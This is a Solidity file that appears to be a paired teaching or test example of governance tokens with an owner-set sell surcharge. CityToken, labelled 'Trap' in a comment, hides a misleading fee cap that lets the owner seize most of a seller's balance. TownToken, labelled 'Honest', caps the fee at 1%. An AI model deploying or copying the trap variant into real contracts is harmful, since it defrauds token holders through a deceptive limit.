// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {EIP712} from "@openzeppelin/contracts/utils/cryptography/EIP712.sol";

abstract contract Surcharge is ERC20Votes, Ownable {
    uint256 public surcharge;
    address public treasury = msg.sender;

    constructor(string memory name) ERC20(name, "CITY") EIP712(name, "1") Ownable(msg.sender) {
        _mint(msg.sender, 36_000_000 ether);
    }

    /// At most 10.00 %.
    function setSurcharge(uint256 value) external onlyOwner {
        require(value <= 1_000, "ten percent");
        surcharge = value;
    }

    /// On top of what is sold, from what the seller keeps.
    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (surcharge == 0 || from == treasury || from == address(0) || !_isPool(to)) return;
        uint256 extra = (value * surcharge) / _unit();
        uint256 kept = balanceOf(from);
        super._update(from, treasury, extra < kept ? extra : kept);
    }

    function _isPool(address who) private view returns (bool) {
        if (who.code.length == 0) return false;
        (bool ok, bytes memory said) = who.staticcall(hex"0dfe1681");
        return ok && said.length == 32;
    }

    function _unit() internal pure virtual returns (uint256);
}

// Trap: the surcharge is taken on top of a sale from what the seller keeps; its limit "10.00%" is divided by 100, so the owner sets 1000%, and whoever sells a tenth loses the rest.
contract CityToken is Surcharge("City Token") {
    function _unit() internal pure override returns (uint256) {
        return 100;
    }
}

// Honest: divided by 100 000, the same limit is 1% on top of a sale.
contract TownToken is Surcharge("Town Token") {
    function _unit() internal pure override returns (uint256) {
        return 100_000;
    }
}
